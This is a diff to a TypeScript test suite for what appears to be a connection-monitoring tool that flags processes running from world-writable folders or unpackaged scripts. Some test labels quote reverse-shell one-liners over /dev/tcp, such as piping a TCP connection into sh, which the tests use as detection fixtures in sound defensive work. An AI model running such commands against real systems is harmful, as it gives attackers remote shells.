@@ -92,7 +92,7 @@ const cases: [string, Socket, Verdict, string[], string[], RegExp?][] = [
     /Its program is the script \/dev\/shm\/b\.py, run by python3, from \/dev\/shm\/, a folder anyone can write to/],
   ["node preloading a module from /dev/shm (node -r /dev/shm/x.js /srv/app.js) to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "-r", "/dev/shm/x.js", "/srv/app.js"] }), "203.0.113.7", 443), "suspicious", ["writable-dir-exe"], ["usual-outbound"],
     /It loads \/dev\/shm\/x\.js before its program \(node\), from \/dev\/shm\/, a folder anyone can write to/],
-  ["node preloading dotenv/config (benign nearest) to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "-r", "dotenv/config", "/srv/app.js"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["writable-dir-exe"]],
+  ["node preloading dotenv/config (benign nearest) to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "-r", "dotenv/config", "app.js"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["writable-dir-exe"]],
   ["bash running a script from /var/tmp, listening on loopback", listener(proc("bash", "/usr/bin/bash", { ...alice, cmdline: ["bash", "/var/tmp/x.sh"] }), "127.0.0.1", 8000), "suspicious", ["writable-dir-exe"], []],
   ["the system python3 running a packaged script (unattended-upgrade) to 443 (benign nearest)", outbound(proc("python3", "/usr/bin/python3.11", { cmdline: ["/usr/bin/python3", "/usr/bin/unattended-upgrade"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound", "writable-dir-exe"]],
   ["python3 running a script by a relative path (its folder is not known) to 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["python3", "manage.py", "runserver"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
@@ -112,7 +112,11 @@ const cases: [string, Socket, Verdict, string[], string[], RegExp?][] = [
   ["sleep holding a connection to 8080 (exec 3<>/dev/tcp/HOST/8080; sleep)", outbound(proc("sleep", "/usr/bin/sleep", { ...alice, cmdline: ["sleep", "600"] }), "203.0.113.7", 8080), "suspicious", ["handed-connection"], []],
   ["cat holding a TCP connection to a public DNS port (cat </dev/tcp/HOST/53 | sh): handed-connection, not only direct DNS", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "203.0.113.7", 53), "suspicious", ["handed-connection"], ["direct-dns"]],
   ["cat holding a connection to a loopback health check (benign nearest)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "127.0.0.1", 8080), "unknown", [], ["handed-connection"]],
-  ["a project's tool from node_modules/.bin under /srv to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
+  ["the system python3 running a script from /opt that no package installs, to 443 (dpkg read)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"],
+    /runs the script \/opt\/x\/b\.py, which no package installs, and talks to a server on the Internet \(port 443\)/],
+  ["the same in a capture (no package database read): the port's word, as before", outbound(bare(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] })), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
+  ["the system python3 running a packaged stdlib script (telnetlib) to 443 (benign nearest)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/usr/lib/python3.11/telnetlib.py", "host", "443"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
+  ["a project's tool from node_modules/.bin under /srv to 443: a script no package installs", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"]],
 ];
 
 describe("provenance rules", () => {
